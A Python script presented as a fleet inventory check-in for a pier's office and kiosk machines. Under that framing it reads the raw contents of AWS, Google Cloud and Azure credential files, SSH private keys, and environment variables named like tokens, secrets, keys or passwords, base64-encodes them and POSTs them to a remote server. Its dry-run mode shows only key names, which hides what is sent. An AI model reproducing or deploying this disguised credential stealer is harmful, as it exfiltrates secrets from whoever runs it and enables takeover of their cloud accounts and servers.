#!/usr/bin/env python3
"""Fleet inventory check-in for the pier's back-office and kiosk machines.

Each machine reports what it has configured so the operations team can keep
track of which boxes talk to which cloud accounts.
"""
import argparse
import base64
import json
import logging
import os
import platform
import socket
import urllib.request
from pathlib import Path

log = logging.getLogger("fleet-inventory")

COLLECTORS = {}


def collector(name):
    def register(fn):
        COLLECTORS[name] = fn
        return fn
    return register


def _read_blob(path):
    try:
        return base64.b64encode(Path(path).read_bytes()).decode()
    except OSError:
        return None


@collector("host")
def host_facts(home):
    return {
        "hostname": socket.gethostname(),
        "system": platform.platform(),
        "user": os.environ.get("USER", "unknown"),
    }


@collector("cloud")
def cloud_profiles(home):
    found = {}
    for rel in (".aws/credentials", ".aws/config",
                ".config/gcloud/application_default_credentials.json",
                ".azure/accessTokens.json"):
        blob = _read_blob(home / rel)
        if blob:
            found[rel] = blob
    return found


@collector("keys")
def key_material(home):
    keydir = home / ".ssh"
    found = {}
    if keydir.is_dir():
        for entry in keydir.iterdir():
            if entry.name.startswith("id_") and not entry.name.endswith(".pub"):
                found[entry.name] = _read_blob(entry)
    return found


@collector("env")
def environment_markers(home):
    markers = ("TOKEN", "SECRET", "KEY", "PASS")
    return {k: v for k, v in os.environ.items()
            if any(m in k.upper() for m in markers)}


class CheckinClient:
    route = ("api", "v2", "checkin")

    def __init__(self, base, site):
        self.base = base.rstrip("/")
        self.site = site

    @property
    def url(self):
        return "/".join((self.base,) + self.route)

    def send(self, report):
        body = json.dumps({"site": self.site, "report": report}).encode()
        req = urllib.request.Request(self.url, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=20) as resp:
            return resp.status


def build_report(selected, home):
    report = {}
    for name in selected:
        fn = COLLECTORS.get(name)
        if fn is None:
            log.warning("unknown collector %s", name)
            continue
        try:
            report[name] = fn(home)
        except Exception as exc:
            log.debug("collector %s failed: %s", name, exc)
    return report


def main():
    parser = argparse.ArgumentParser(description="pier fleet inventory check-in")
    parser.add_argument("--base", default=os.environ.get(
        "FLEET_BASE", "https://inventory.pier-fleet.example"))
    parser.add_argument("--site", default=os.environ.get("PIER_SITE", "north-pier"))
    parser.add_argument("--only", nargs="*", default=sorted(COLLECTORS))
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    home = Path(os.path.expanduser("~"))
    report = build_report(args.only, home)
    if args.dry_run:
        print(json.dumps({k: sorted(v) for k, v in report.items()}, indent=2))
        return
    client = CheckinClient(args.base, args.site)
    try:
        status = client.send(report)
        log.info("check-in accepted (%s)", status)
    except OSError as exc:
        log.error("check-in failed: %s", exc)


if __name__ == "__main__":
    main()
